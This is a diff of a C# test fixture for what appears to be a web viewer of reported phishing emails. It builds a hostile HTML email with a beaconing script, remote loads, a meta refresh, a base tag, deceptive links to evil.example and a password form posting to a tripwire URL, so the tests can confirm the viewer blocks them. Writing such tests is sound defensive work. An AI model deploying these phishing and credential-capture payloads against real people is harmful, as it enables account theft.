@@ -14,8 +14,9 @@ namespace Hookline.Web.Tests;
 
 /// <summary>
 /// A real `hookline serve` web side on a free loopback port, over a store with 40 analysed demo
-/// reports and one hostile report (its body has a script and a remote image pointing at
-/// <see cref="Tripwire"/>), and one user per role.
+/// reports and one hostile report (its body has a script, a remote image and style sheet, a meta
+/// refresh, a base, links and a form, pointing at <see cref="Tripwire"/> or evil.example), and one
+/// user per role.
 /// </summary>
 public sealed class WebServer : IAsyncLifetime
 {
@@ -86,7 +87,7 @@ public sealed class WebServer : IAsyncLifetime
         Directory.Delete(_root, recursive: true);
     }
 
-    /// <summary>A Report-button report whose original's HTML tries to run a script and to load an image from <paramref name="port"/>.</summary>
+    /// <summary>A Report-button report whose original's HTML tries to run a script, to load things from <paramref name="port"/>, and to navigate (refresh, links, a form).</summary>
     private static byte[] HostileReport(int port)
     {
         var now = DateTimeOffset.UtcNow.AddMinutes(-30).ToString("ddd, dd MMM yyyy HH:mm:ss '+0000'", CultureInfo.InvariantCulture);
@@ -102,11 +103,15 @@ public sealed class WebServer : IAsyncLifetime
             .Append("X-MS-Exchange-Organization-Network-Message-Id: 0badc0de-0000-4000-8000-000000000001\r\n")
             .Append("MIME-Version: 1.0\r\n")
             .Append("Content-Type: text/html; charset=\"utf-8\"\r\n\r\n")
-            .Append("<html><head><link rel=\"stylesheet\" href=\"").Append(remote).Append("/style.css\"></head><body>")
+            .Append("<html><head><link rel=\"stylesheet\" href=\"").Append(remote).Append("/style.css\">")
+            .Append("<meta http-equiv=\"refresh\" content=\"1;url=").Append(remote).Append("/refresh\"><base href=\"").Append(remote).Append("/base/\"></head><body>")
             .Append("<script>document.title = 'pwned'; try { parent.document.title = 'pwned'; } catch (e) {} new Image().src = '").Append(remote).Append("/script';</script>")
             .Append("<p id=\"marker\">Open sesame &lt;b&gt;not bold&lt;/b&gt;</p>")
             .Append("<img src=\"").Append(remote).Append("/pixel.png\" alt=\"pixel\">")
             .Append("<a href=\"https://login.evil.example/owa\">Keep my mailbox</a>")
+            .Append("<p><a id=\"evil-link\" href=\"https://evil.example/x\" title=\"https://microsoft.com/\">Verify your account</a></p>")
+            .Append("<p><a id=\"loopback-link\" href=\"").Append(remote).Append("/clicked\">Relative to the base</a> <a id=\"relative-link\" href=\"next\">next</a></p>")
+            .Append("<form id=\"steal\" method=\"post\" action=\"").Append(remote).Append("/form\"><input name=\"password\" type=\"password\" value=\"hunter2\"><button id=\"steal-submit\" formaction=\"").Append(remote).Append("/formaction\">Sign in</button></form>")
             .Append("</body></html>\r\n")
             .ToString();
         var envelope = new StringBuilder()
